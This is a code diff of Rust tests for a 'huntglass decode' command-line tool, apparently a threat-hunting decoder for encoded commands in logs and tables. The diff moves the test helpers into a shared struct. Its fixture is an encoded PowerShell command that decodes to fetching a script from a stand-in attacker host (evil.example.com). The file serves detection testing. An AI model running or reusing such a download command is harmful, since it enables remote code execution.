@@ -1,8 +1,6 @@
 //! Runs `huntglass decode` on text lines, whole text, stdin, CSV, JSON-lines and Arrow input;
 //! output formats; progress on big inputs; errors.
 
-use std::path::PathBuf;
-use std::process::Output;
 use std::sync::Arc;
 
 use arrow_array::{ArrayRef, RecordBatch, StringArray};
@@ -15,28 +13,12 @@ mod common;
 const ENCODED: &str = "powershell -enc aQB3AHIAIABoAHQAdABwADoALwAvAGUAdgBpAGwALgBlAHgAYQBtAHAAbABlAC4AYwBvAG0ALwBhAC4AcABzADEA";
 const DECODED: &str = "iwr http://evil.example.com/a.ps1";
 
-const SUBCOMMAND: &str = "decode";
-
-fn temp_dir(name: &str) -> PathBuf {
-    common::temp_dir(SUBCOMMAND, name)
-}
-
-fn run(args: &[&str], stdin: Option<&str>) -> Output {
-    common::run(SUBCOMMAND, args, stdin)
-}
-
-fn ok_jsonl(args: &[&str], stdin: Option<&str>) -> Vec<Value> {
-    common::ok_jsonl(SUBCOMMAND, args, stdin)
-}
-
-fn failure(args: &[&str], stdin: Option<&str>) -> String {
-    common::failure(SUBCOMMAND, args, stdin)
-}
+const CLI: common::Subcommand = common::Subcommand("decode");
 
 #[test]
 fn stdin_lines_are_records() {
     let input = format!("nothing here\n{ENCODED}\n");
-    let rows = ok_jsonl(&[], Some(&input));
+    let rows = CLI.ok_jsonl(&[], Some(&input));
     assert_eq!(rows.len(), 1);
     let r = &rows[0];
     assert_eq!(r["decoded_string"], DECODED);
@@ -58,14 +40,14 @@ fn whole_input_is_one_record_and_base64_may_span_lines() {
     // The reference's candidate rule allows CR/LF inside a run.
     let b64 = "VGhpcyBpcyBhIG11bHRpLWxpbmUgYmFzZTY0IHBheWxvYWQgdGhhdCB3cmFwcyBvdmVyIGxpbmVz";
     let wrapped = format!("{}\n{}\n", &b64[..40], &b64[40..]);
-    let rows = ok_jsonl(&["--whole"], Some(&wrapped));
+    let rows = CLI.ok_jsonl(&["--whole"], Some(&wrapped));
     assert_eq!(rows.len(), 1, "{rows:?}");
     assert_eq!(
         rows[0]["decoded_string"],
         "This is a multi-line base64 payload that wraps over lines"
     );
     // Line by line, neither half decodes to that text.
-    let rows = ok_jsonl(&[], Some(&wrapped));
+    let rows = CLI.ok_jsonl(&[], Some(&wrapped));
     assert!(rows.iter().all(
         |r| r["decoded_string"] != "This is a multi-line base64 payload that wraps over lines"
     ));
@@ -73,19 +55,19 @@ fn whole_input_is_one_record_and_base64_may_span_lines() {
 
 #[test]
 fn csv_jsonl_and_arrow_tables_by_column() {
-    let dir = temp_dir("tables");
+    let dir = CLI.temp_dir("tables");
     let csv = dir.join("events.csv");
     std::fs::write(
         &csv,
         format!("Computer,CommandLine\nhost1,cmd.exe /c dir\nhost2,\"{ENCODED}\"\n"),
     )
     .expect("writes");
-    let rows = ok_jsonl(&["--column", "CommandLine", csv.to_str().unwrap()], None);
+    let rows = CLI.ok_jsonl(&["--column", "CommandLine", csv.to_str().unwrap()], None);
     assert_eq!(rows.len(), 1);
     assert_eq!(rows[0]["src_index"], 1);
     assert_eq!(rows[0]["CommandLine"], ENCODED);
     assert_eq!(rows[0]["decoded_string"], DECODED);
-    let message = failure(&[csv.to_str().unwrap()], None);
+    let message = CLI.failure(&[csv.to_str().unwrap()], None);
     assert!(
         message.contains("several text columns (Computer, CommandLine)"),
         "{message}"
@@ -97,7 +79,7 @@ fn csv_jsonl_and_arrow_tables_by_column() {
         format!("{{\"Cmd\": \"plain\"}}\n{{\"Cmd\": null}}\n{{\"Cmd\": \"{ENCODED}\"}}\n"),
     )
     .expect("writes");
-    let rows = ok_jsonl(&["--column", "Cmd", jsonl.to_str().unwrap()], None);
+    let rows = CLI.ok_jsonl(&["--column", "Cmd", jsonl.to_str().unwrap()], None);
     assert_eq!(rows.len(), 1);
     assert_eq!(rows[0]["src_index"], 2);
 
@@ -110,10 +92,10 @@ fn csv_jsonl_and_arrow_tables_by_column() {
         hg_arrow::write_ipc_stream(&schema, &[batch]).expect("ipc"),
     )
     .expect("writes");
-    let rows = ok_jsonl(&[arrow.to_str().unwrap()], None);
+    let rows = CLI.ok_jsonl(&[arrow.to_str().unwrap()], None);
     assert_eq!(rows.len(), 1);
     assert_eq!(rows[0]["decoded_string"], DECODED);
-    let message = failure(&["--column", "Nope", arrow.to_str().unwrap()], None);
+    let message = CLI.failure(&["--column", "Nope", arrow.to_str().unwrap()], None);
     assert!(
         message.contains("column 'Nope' not found; available columns: Cmd"),
         "{message}"
@@ -122,7 +104,7 @@ fn csv_jsonl_and_arrow_tables_by_column() {
 
 #[test]
 fn csv_output_has_a_header_and_one_line_per_layer() {
-    let out = run(&["--format", "csv"], Some(&format!("{ENCODED}\n")));
+    let out = CLI.run(&["--format", "csv"], Some(&format!("{ENCODED}\n")));
     assert!(out.status.success());
     let text = String::from_utf8(out.stdout).expect("utf-8");
     let mut lines = text.lines();
@@ -132,7 +114,7 @@ fn csv_output_has_a_header_and_one_line_per_layer() {
     let row = lines.next().expect("a row");
     assert!(row.contains(DECODED), "{row}");
     assert_eq!(lines.next(), None);
-    let empty = run(&["--format", "csv"], Some("nothing\n"));
+    let empty = CLI.run(&["--format", "csv"], Some("nothing\n"));
     assert!(empty.status.success());
     let text = String::from_utf8(empty.stdout).expect("utf-8");
     assert_eq!(text.lines().count(), 1, "header only: {text}");
@@ -144,25 +126,25 @@ fn limits_are_options_and_reported() {
     for _ in 0..3 {
         text = base64_encode(text.as_bytes());
     }
-    let rows = ok_jsonl(&["--max-depth", "2"], Some(&text));
+    let rows = CLI.ok_jsonl(&["--max-depth", "2"], Some(&text));
     assert!(
         rows.iter().any(|r| r["stopped_by"] == "max_depth"),
         "{rows:?}"
     );
-    let rows = ok_jsonl(&[], Some(&text));
+    let rows = CLI.ok_jsonl(&[], Some(&text));
     assert_eq!(rows.len(), 3);
-    let message = failure(&["--max-records", "0"], Some("x"));
+    let message = CLI.failure(&["--max-records", "0"], Some("x"));
     assert!(
         message.contains("limit max_records must be at least 1"),
         "{message}"
     );
-    let message = failure(&["--column", "C"], Some("x"));
+    let message = CLI.failure(&["--column", "C"], Some("x"));
     assert!(message.contains("--column applies to CSV"), "{message}");
 }
 
 #[test]
 fn big_inputs_report_progress_on_stderr() {
-    let dir = temp_dir("big");
+    let dir = CLI.temp_dir("big");
     let path = dir.join("big.txt");
     let line = "just an ordinary log line without any encoded content in it at all\n";
     let mut text = String::with_capacity(17 << 20);
@@ -172,7 +154,7 @@ fn big_inputs_report_progress_on_stderr() {
     text.push_str(ENCODED);
     text.push('\n');
     std::fs::write(&path, &text).expect("writes");
-    let out = run(&[path.to_str().unwrap()], None);
+    let out = CLI.run(&[path.to_str().unwrap()], None);
     assert!(out.status.success());
     let stderr = String::from_utf8(out.stderr).expect("utf-8");
     assert!(
@@ -185,7 +167,7 @@ fn big_inputs_report_progress_on_stderr() {
         .map(|l| serde_json::from_str(l).unwrap())
         .collect();
     assert_eq!(rows.len(), 1);
-    let quiet = run(&["--quiet", path.to_str().unwrap()], None);
+    let quiet = CLI.run(&["--quiet", path.to_str().unwrap()], None);
     assert!(quiet.stderr.is_empty());
 }
 
